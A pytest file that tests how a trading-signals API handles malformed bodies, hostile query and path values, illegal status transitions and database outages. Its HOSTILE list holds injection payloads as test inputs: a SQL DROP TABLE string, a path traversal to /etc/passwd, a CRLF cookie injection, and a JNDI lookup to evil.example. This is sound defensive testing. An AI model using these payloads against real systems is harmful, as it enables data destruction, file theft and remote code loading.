"""Bad requests and bad days of the API: malformed, hostile, early, late; and a database that is away."""

import json
import logging
from contextlib import ExitStack
from datetime import UTC, datetime, timedelta
from pathlib import Path
from uuid import uuid4

import psycopg
import pytest
import sqlalchemy as sa

from pipeline.storage import server, tables
from pipeline.storage.database import CONNECTIONS, Database
from pipeline.storage.schema import migrate
from tests.support.api import SIGNALS, an_api, refused, wrong_fields
from tests.support.database import a_database, a_series_of
from tests.support.lifecycle import a_life, around_now, events_of, status_of, store, stored
from tests.support.spec_examples import NO_UUID

EXECUTED = {"status": "EXECUTED", "price": 101.5, "at": "2024-01-01T00:10:00Z"}
HOSTILE = [
    "' OR 1=1 --",
    "BTC/USDT'; DROP TABLE trading_signals; --",
    "../../../../etc/passwd",
    "%00",
    "\x00",
    "a\r\nSet-Cookie: x=1",
    "${jndi:ldap://evil.example/a}",
    "\u202e\ufeff",
    "9" * 400,
]
NUMBERS_OF_JSON = ["NaN", "Infinity", "-Infinity", "1e999", "0", "-1", "-0.0", '"101.5"', "true", "null", "[]", "1e300"]
NO_CHANGES = [
    *("", "{", "[]", "null", "7", '"EXECUTED"', "{}", '{"price": 1}', '{"status": "SOLD"}', '{"status": 7}'),
    *(b"\xff\xfe{", "{" * 2000, "[" * 60_000),
]


@pytest.fixture
def client(database):
    with an_api(database) as client:
        yield client


@pytest.fixture(scope="module")
def reader(postgres_server, migrated_template):
    """A client for what changes nothing, over an empty database that such tests share."""
    with a_database(postgres_server, migrated_template) as shared, an_api(shared) as client:
        yield client


def change(client, number, body: bytes | str, content_type: str = "application/json"):
    return client.patch(f"{SIGNALS}/{number}/status", content=body, headers={"Content-Type": content_type})


# What is malformed


@pytest.mark.parametrize("body", NO_CHANGES)
def test_f55_a_body_that_is_none_is_refused_and_changes_nothing(client, database, body):
    (number,) = stored(database)
    refused(change(client, number, body), 422, "invalid_request")
    assert status_of(database, number) == "ACTIVE"


def test_f55_every_wrong_value_is_told_by_its_field(client, database):
    (number,) = stored(database)
    body = {"status": "EXECUTED", "price": "dear", "at": "yesterday", "reason": "none"}
    assert wrong_fields(change(client, number, json.dumps(body))) == {"body.price", "body.at", "body.reason"}
    query = {"symbol": "?", "signal_type": "HOLD", "min_confidence": "much", "limit": "0", "min_confidance": "0.5"}
    assert wrong_fields(client.get(f"{SIGNALS}/active", params=query)) == {
        *("query.symbol", "query.signal_type", "query.min_confidence", "query.limit", "query.min_confidance")
    }


@pytest.mark.parametrize("content_type", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"])
def test_f55_what_a_form_of_a_page_can_send_is_no_change(client, database, content_type):
    (number,) = stored(database)
    refused(change(client, number, json.dumps(EXECUTED), content_type), 422, "invalid_request")
    assert status_of(database, number) == "ACTIVE"


def test_f55_half_a_character_in_a_key_or_a_value_is_refused(client, database):
    (number,) = stored(database)
    for more in (r'"reason": "\ud800"', r'"reason": "x", "\ud800": 1'):
        refused(change(client, number, f'{{"status": "INVALIDATED", {more}}}'), 422, "invalid_request")


# Ids and routes


@pytest.mark.parametrize("word", [NO_UUID, "1", "activ", "performance ", "%2e%2e", "a" * 3000, *HOSTILE[:3]])
@pytest.mark.parametrize("route", ["", "/explain", "/chart"])
def test_f56_an_id_that_is_no_uuid_is_refused(reader, word, route):
    answer = reader.get(f"{SIGNALS}/{word}{route}")
    assert answer.status_code in (404, 422), answer.text
    assert answer.json()["success"] is False


def test_f56_the_descriptions_own_example_of_an_id_is_no_uuid(reader):
    assert wrong_fields(reader.get(f"{SIGNALS}/{NO_UUID}")) == {"path.signal_id"}
    assert wrong_fields(reader.patch(f"{SIGNALS}/{NO_UUID}/status", json=EXECUTED)) == {"path.signal_id"}


def test_f57_fixed_paths_are_not_taken_for_ids(reader):
    assert set(reader.get(f"{SIGNALS}/active").json()) == {"success", "count", "signals", "next_cursor"}
    assert set(reader.get(f"{SIGNALS}/performance").json()) == {"success", "performance"}


@pytest.mark.parametrize(
    ("path", "query"),
    [
        *(("performance", {"timeframe": word}) for word in ("99d", "7", "", "1h", "7D", "7d ", "all")),
        *(("active", {"min_confidence": word}) for word in ("NaN", "nan", "2", "-1", "1.0000001", "inf", "", "x")),
        *(("active", {"limit": word}) for word in ("0", "-1", "501", "9" * 30, "1.5", "NaN", "")),
        *(("active", {"timeframe": word}) for word in ("99d", "1H", "60", "")),
        *(("active", {"since": word}) for word in ("now", "2024-13-01", "1704067200", "0001-01-01T00:00+14:00", "")),
        *(("active", {"signal_type": word}) for word in ("HOLD", "buy sell", "")),
        *(("active", {"source": word}) for word in ("news", "ML ", "")),
        *(("active", {"exchange": word}) for word in ("Binance", "a b", "a" * 41, "")),
        *(("active", {"symbol": word}) for word in ("", "/", "BTC//USDT", "B" * 5000)),
    ],
)
def test_f59_a_value_outside_its_bounds_is_refused_by_name(reader, path, query):
    assert wrong_fields(reader.get(f"{SIGNALS}/{path}", params=query)) == {f"query.{next(iter(query))}"}


# A database that is away


def test_f60_without_the_database_every_route_says_so_and_when_to_ask_again(tmp_path: Path):
    routes = ["active", "performance", f"{uuid4()}", f"{uuid4()}/explain", f"{uuid4()}/chart"]
    with server.embedded_server(tmp_path) as address:
        database = Database(address)
        migrate(database)
        with an_api(database) as client:
            assert client.get("/health").status_code == 200

            server.stop(tmp_path)

            answers = [client.get(f"{SIGNALS}/{route}") for route in routes]
            answers += [client.patch(f"{SIGNALS}/{uuid4()}/status", json=EXECUTED), client.get("/health")]
            for answer in answers:
                error = refused(answer, 503, "database_unavailable")
                assert int(answer.headers["retry-after"]) > 0
                assert error["message"] == "the database does not answer; try again later"  # no host, no port, no user
            metrics = client.get("/metrics")
            assert (metrics.status_code, "signals_database_up 0.0" in metrics.text) == (200, True)

            assert server.ensure_running(tmp_path, address)

            assert client.get("/health").status_code == 200
            assert client.get(f"{SIGNALS}/active").json()["count"] == 0
        database.close()


def test_f60_connections_that_were_dropped_are_replaced_unnoticed(client, database):
    for _ in range(3):
        assert client.get(f"{SIGNALS}/active").status_code == 200
        with psycopg.connect(database.address.libpq, autocommit=True) as conn:
            conn.execute(
                "SELECT pg_terminate_backend(pid) FROM pg_stat_activity"
                " WHERE datname = current_database() AND pid <> pg_backend_pid()"
            )


def test_f60_where_every_connection_is_taken_callers_are_told_to_come_back(client, database, monkeypatch):
    monkeypatch.setattr(database.engine.pool, "_timeout", 0.1)
    with ExitStack() as taken:
        for _ in range(CONNECTIONS):
            taken.enter_context(database.engine.connect())
        refused(client.get(f"{SIGNALS}/active"), 503, "database_unavailable")
    assert client.get(f"{SIGNALS}/active").status_code == 200


def test_f60_an_execution_whose_connection_is_dropped_is_not_half_done(client, database):
    (number,) = stored(database)
    with database.begin() as conn:
        conn.execute(
            sa.text("""CREATE FUNCTION leave() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN
PERFORM pg_terminate_backend(pg_backend_pid()); RETURN NULL; END $$;
CREATE TRIGGER leave AFTER INSERT ON signal_events FOR EACH STATEMENT EXECUTE FUNCTION leave()""")
        )
    refused(change(client, number, json.dumps(EXECUTED)), 503, "database_unavailable")
    assert (status_of(database, number), events_of(database, number)) == ("ACTIVE", [])
    with database.begin() as conn:
        conn.execute(sa.text("DROP FUNCTION leave CASCADE"))
    assert change(client, number, json.dumps(EXECUTED)).status_code == 200


# What the state machine refuses


@pytest.mark.parametrize("before", ["ACTIVE", "EXPIRED", "INVALIDATED", "EXECUTED"])
@pytest.mark.parametrize("after", ["ACTIVE", "EXPIRED", "INVALIDATED", "EXECUTED"])
def test_f61_what_is_final_stays_and_nobody_makes_a_signal_active_or_expired(client, database, before, after):
    done = {"executed_at": datetime(2024, 1, 1, 0, 5, tzinfo=UTC), "execution_price": 99.0, "profit_loss": -0.01}
    (number,) = stored(database, status=before, **(done if before == "EXECUTED" else {}))
    body = {"EXECUTED": EXECUTED, "INVALIDATED": {"status": after, "reason": "why"}}.get(after, {"status": after})
    answer = change(client, number, json.dumps(body))
    if before == "ACTIVE" and after in ("EXECUTED", "INVALIDATED"):
        assert answer.json()["signal"]["status"] == after
    else:
        assert refused(answer, 409, "illegal_transition")["status"] == before
        assert status_of(database, number) == before


def test_f61_an_alert_is_never_executed(client, database):
    (number,) = stored(database, signal_type="ALERT", target_prices=None, stop_loss_price=None)
    assert refused(change(client, number, json.dumps(EXECUTED)), 409, "illegal_transition")["status"] == "ACTIVE"


@pytest.mark.parametrize("price", NUMBERS_OF_JSON)
def test_f61_a_price_that_is_none_is_refused(client, database, price):
    (number,) = stored(database, **around_now())
    answer = change(client, number, f'{{"status": "EXECUTED", "price": {price}}}')
    assert wrong_fields(answer) == {"body.price"}
    assert status_of(database, number) == "ACTIVE"


def test_f61_an_execution_without_a_price_is_refused(client, database):
    (number,) = stored(database, **around_now())
    assert wrong_fields(change(client, number, '{"status": "EXECUTED"}')) == {"body.price"}


# What is hostile


@pytest.mark.parametrize("text", HOSTILE)
def test_f62_sql_paths_and_lines_in_any_parameter_are_only_text(client, database, caplog, text):
    (number,) = stored(database, **around_now())
    caplog.set_level(logging.INFO, "pipeline.api")
    names = ("symbol", "signal_type", "min_confidence", "source", "timeframe", "exchange", "since", "limit", "cursor")
    answers = [client.get(f"{SIGNALS}/active", params={name: text}) for name in names]
    answers += [client.get(f"{SIGNALS}/performance", params={name: text}) for name in ("timeframe", "exchange")]
    answers += [client.get(f"{SIGNALS}/active", params={text: "1"})]
    for answer in answers:
        refused(answer, 422, "invalid_request")
        assert "set-cookie" not in answer.headers
    for record in caplog.records:
        assert "\n" not in record.getMessage()
        assert text not in record.getMessage()
    reason = client.patch(f"{SIGNALS}/{number}/status", json={"status": "INVALIDATED", "reason": text})
    if not set(text) & set("\x00\r\n\u202e"):
        assert reason.json()["signal"]["status"] == "INVALIDATED"
        assert events_of(database, number)[0][-1] == text
    else:
        refused(reason, 422, "invalid_request")
    with database.begin() as conn:
        assert conn.scalar(sa.select(sa.func.count()).select_from(tables.trading_signals)) == 1


def test_f62_what_nobody_foresaw_is_told_by_a_reference_and_the_log_has_the_rest(client, database, caplog):
    (number,) = stored(database)
    with database.begin() as conn:
        conn.execute(sa.text("ALTER TABLE trading_signals RENAME TO secret_name"))
    answer = client.get(f"{SIGNALS}/{number}")
    error = refused(answer, 500, "internal_error")
    assert set(error) == {"code", "message", "reference"}
    for word in ("SELECT", "trading_signals", "Traceback", "psycopg", database.address.password or "none"):
        assert word not in answer.text
    (record,) = (record for record in caplog.records if error["reference"] in record.getMessage())
    assert "trading_signals" in record.exc_text


# Windows with little in them


@pytest.mark.parametrize("rows", ["none", "one", "unknown_profit", "alerts"])
@pytest.mark.parametrize("timeframe", ["24h", "7d", "30d"])
def test_f63_performance_of_little_has_the_full_shape(client, database, rows, timeframe):
    number = a_series_of(database)
    life = around_now(timedelta(hours=3), timedelta(hours=-2))
    alert = {"signal_type": "ALERT", "target_prices": None, "stop_loss_price": None, "status": "EXPIRED"}
    executed = {"status": "EXECUTED", "executed_at": life["created_at"], "execution_price": 100.0}
    made = {
        "none": [],
        "one": [a_life(number, status="EXPIRED", **life)],
        "unknown_profit": [a_life(number, **executed, **life) for _ in range(3)],
        "alerts": [a_life(number, **alert, **life) for _ in range(4)],
    }[rows]
    if made:
        store(database, made)

    answer = client.get(f"{SIGNALS}/performance", params={"timeframe": timeframe})

    found = json.loads(answer.text, parse_constant=pytest.fail)["performance"]
    totals = {"none": (0, 0), "one": (1, 0), "unknown_profit": (3, 3), "alerts": (4, 0)}
    assert (found["total_signals"], found["executed_signals"]) == totals[rows]
    assert found["execution_rate"] == (1.0 if rows == "unknown_profit" else 0.0)
    assert {found[name] for name in ("profitable_signals", "losing_signals", "win_rate", "avg_profit_loss")} == {0}
    assert set(found["by_source"]) == {"technical", "ml_model", "sentiment", "multi"}
    assert found["outcomes"] is None
